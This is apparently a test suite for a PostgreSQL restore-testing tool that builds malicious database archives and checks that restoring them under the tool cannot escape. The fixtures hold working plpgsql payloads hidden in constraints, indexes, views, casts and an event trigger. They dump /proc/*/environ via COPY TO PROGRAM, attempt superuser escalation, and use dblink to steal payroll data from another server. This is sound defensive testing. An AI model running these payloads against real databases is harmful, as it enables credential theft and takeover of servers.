import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { chmod } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { type Taken, takeBackup } from '../support/backup.ts';
import { scratch } from '../support/faults.ts';
import { Cluster } from '../support/postgres.ts';
import { said, type TestReport, tryRestoreTest } from '../support/restore-test.ts';
import { databasesOf, rolesOf } from '../support/restoring.ts';

// A genuine archive of a database whose owners wanted more than their database: whatever a restore runs of it tries to
// leave a mark outside, and to take our environment with it.
describe('an archive that attacks who restores it', () => {
  let source: Cluster;
  let other: Cluster;
  let backup: Taken;
  let marks: string;
  const mark = (name: string): string => join(marks, name);
  const canary = 'canary-5e7b1c2f';

  before(async () => {
    source = await Cluster.start();
    other = await Cluster.start();
    marks = await scratch('pgassay-marks-');
    await chmod(marks, 0o777);
    await source.createDatabase('evil');
    await source.query(
      'evil',
      `CREATE FUNCTION pwn(who text) RETURNS boolean LANGUAGE plpgsql AS $f$
       DECLARE target text := '${marks}/' || who;
       BEGIN
         IF current_database() = 'evil' THEN RETURN true; END IF;
         BEGIN
           EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'cat /proc/*/environ > ' || target || '-program 2>/dev/null; touch ' || target || '-program');
         EXCEPTION WHEN OTHERS THEN NULL; END;
         BEGIN
           EXECUTE format('COPY (SELECT 1) TO %L', target || '-copy');
         EXCEPTION WHEN OTHERS THEN NULL; END;
         BEGIN
           PERFORM lo_export(lo_from_bytea(0, 'x'), target || '-export');
         EXCEPTION WHEN OTHERS THEN NULL; END;
         BEGIN
           EXECUTE 'ALTER ROLE ' || quote_ident(session_user) || ' SUPERUSER';
           EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'touch ' || target || '-elevated');
         EXCEPTION WHEN OTHERS THEN NULL; END;
         BEGIN
           EXECUTE 'SET ROLE pg_execute_server_program';
           EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'touch ' || target || '-role');
           EXECUTE 'RESET ROLE';
         EXCEPTION WHEN OTHERS THEN NULL; END;
         RETURN true;
       END $f$;
       CREATE TABLE checked (x int CHECK (pwn('check')));
       CREATE TABLE trapped (x int, y text);
       CREATE INDEX ON trapped ((1)) WHERE pg_catalog.length('a') = 1;
       INSERT INTO checked VALUES (1), (2); INSERT INTO trapped VALUES (1, 'a');
       CREATE FUNCTION pwn_index(x int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN PERFORM public.pwn('index'); RETURN x; END $f$;
       CREATE INDEX by_attack ON trapped (pwn_index(x));
       CREATE MATERIALIZED VIEW looks AS SELECT public.pwn('matview') AS done;
       CREATE FUNCTION trapped_text(trapped) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.pwn('cast'); RETURN ''; END $f$;
       CREATE CAST (trapped AS text) WITH FUNCTION trapped_text(trapped) AS IMPLICIT;
       CREATE FUNCTION public.count(text) RETURNS bigint LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.pwn('count'); RETURN 0; END $f$;
       CREATE FUNCTION on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.pwn('event'); END $f$;
       CREATE VIEW v AS SELECT public.pwn('view') AS ok;
       CREATE ROLE insider; GRANT pg_execute_server_program TO insider;
       ALTER TABLE trapped OWNER TO insider;`,
    );
    await source.query('evil', 'CREATE EVENT TRIGGER attack ON ddl_command_end EXECUTE FUNCTION on_ddl()');
    backup = await takeBackup(source, 'evil');
  });
  after(async () => {
    await source.stop();
    await other.stop();
  });

  const left = (): string[] =>
    ['check', 'index', 'matview', 'cast', 'count', 'event', 'view', 'checks'].flatMap((who) =>
      ['program', 'copy', 'export', 'elevated', 'role']
        .map((how) => mark(`${who}-${how}`))
        .filter((path) => existsSync(path)),
    );

  for (const where of ['a throw-away server of ours', 'a server that was given'] as const)
    test(`reaches neither the machine nor our environment, on ${where}; what it may not create is named`, async () => {
      const env: Record<string, string> = { PGASSAY_SECRET_CANARY: canary };
      if (where !== 'a throw-away server of ours') env.PGASSAY_SCRATCH_URL = other.url('postgres');
      const result = await tryRestoreTest(
        source,
        backup,
        ['--checks', "SELECT public.pwn('checks')", '--checks', 'SELECT ok FROM v'],
        env,
      );
      const report = result.json as TestReport;
      assert.deepEqual(left(), [], said(result));
      assert.equal(result.exitCode, 51, said(result));
      assert.deepEqual(
        report.findings.map((each) => each.object),
        ['EVENT TRIGGER attack'],
        said(result),
      );
      assert.match(report.findings[0]?.found ?? '', /permission denied to create event trigger "attack"/);
      assert.match(result.stderr, /hint: objects that only a superuser may create need scratch-privileges: superuser/);
      assert.deepEqual(report.notes, ['insider is no member of pg_execute_server_program here']);
      assert.doesNotMatch(said(result), new RegExp(canary));
    });

  test('is refused a superuser where our secrets are in reach, unless that is insisted on', async () => {
    // The server of the test runs as another user than we do when we are root; a copy of our own user cannot be had then.
    const same = process.getuid?.() !== 0;
    const env = { PGASSAY_SECRET_CANARY: canary, ...(same ? {} : { PGASSAY_SCRATCH_URL: other.url('postgres') }) };
    const result = await tryRestoreTest(source, backup, ['--scratch-privileges', 'superuser'], env);
    if (same) {
      assert.equal(result.exitCode, 12, said(result));
      assert.match(result.stderr, /would let the archive run programs as this very user/);
      assert.deepEqual(left(), []);
    } else {
      // Sandboxed by its user: it may do there what it likes, and finds nothing of ours.
      assert.equal(result.exitCode, 0, said(result));
      assert.ok(existsSync(mark('check-program')), 'the attack itself works');
      assert.doesNotMatch(readFileSync(mark('check-program'), 'latin1'), new RegExp(canary));
    }
  });

  test('reads no other database of a server that was given, drops none, and cannot stay there', async () => {
    await other.createDatabase('payroll');
    await other.query('payroll', `CREATE TABLE salaries AS SELECT 'ada' AS who, 1000 AS pays; CREATE EXTENSION dblink`);
    await other.query('postgres', 'CREATE ROLE app');
    await other.createDatabase('apps', 'OWNER app');
    await source.createDatabase('spy');
    await source.query('postgres', 'CREATE ROLE app');
    await source.query(
      'spy',
      `CREATE EXTENSION dblink;
       CREATE FUNCTION spy() RETURNS boolean LANGUAGE plpgsql AS $f$
       DECLARE found text;
       BEGIN
         IF current_database() = 'spy' THEN RETURN true; END IF;
         BEGIN
           EXECUTE format('ALTER ROLE %I PASSWORD %L', session_user, 'known');
           SELECT string_agg(line, ',') INTO found FROM public.dblink(
             format('host=127.0.0.1 port=${other.port} dbname=payroll user=%I password=known', session_user),
             'SELECT who || pays FROM salaries') AS t(line text);
           RAISE EXCEPTION 'must be member of role "%"', found;
         EXCEPTION WHEN insufficient_privilege OR sqlclient_unable_to_establish_sqlconnection OR undefined_table THEN NULL; END;
         BEGIN EXECUTE 'ALTER DATABASE apps OWNER TO CURRENT_USER'; EXCEPTION WHEN OTHERS THEN NULL; END;
         BEGIN EXECUTE format('ALTER DATABASE %I IS_TEMPLATE true', current_database()); EXCEPTION WHEN OTHERS THEN NULL; END;
         RETURN true;
       END $f$;
       CREATE TABLE spied (x int CHECK (spy())); INSERT INTO spied VALUES (1); ALTER TABLE spied OWNER TO app;
       GRANT SELECT ON spied TO app`,
    );
    const before = await databasesOf(other);
    const roles = await rolesOf(other);
    const result = await tryRestoreTest(source, await takeBackup(source, 'spy'), [], {
      PGASSAY_SCRATCH_URL: other.url('postgres'),
    });
    assert.deepEqual((result.json as TestReport)?.findings, [], said(result));
    assert.doesNotMatch(said(result), /1000/);
    assert.deepEqual(await databasesOf(other), before);
    assert.deepEqual(await rolesOf(other), roles);
    const [owner] = await other.query<{ name: string }>(
      'postgres',
      `SELECT pg_get_userbyid(datdba)::text AS name FROM pg_database WHERE datname = 'apps'`,
    );
    assert.equal(owner?.name, 'app');
  });

  test("hides no finding behind errors that were expected: a view's refresh fails among a hundred owners", async () => {
    await source.createDatabase('noisy');
    await source.query(
      'noisy',
      `CREATE FUNCTION fails() RETURNS int LANGUAGE plpgsql AS $f$ BEGIN
         IF current_database() = 'noisy' THEN RETURN 1; END IF;
         RAISE EXCEPTION USING ERRCODE = '42501', MESSAGE = 'must be member of role "postgres"';
       END $f$;
       DO $d$ BEGIN FOR i IN 1..60 LOOP EXECUTE format('CREATE MATERIALIZED VIEW m%s AS SELECT %s AS x', i, i); END LOOP; END $d$;
       CREATE MATERIALIZED VIEW broken AS SELECT public.fails() AS x; CREATE TABLE t AS SELECT 1 x`,
    );
    const noisy = await takeBackup(source, 'noisy');
    for (const env of [{}, { PGASSAY_SCRATCH_URL: other.url('postgres') }]) {
      const result = await tryRestoreTest(source, noisy, ['--jobs', '16'], env);
      assert.equal(result.exitCode, 51, said(result));
      assert.ok(
        (result.json as TestReport).findings.some((each) => /materialized view.*broken/i.test(each.object)),
        said(result),
      );
    }
  });
});
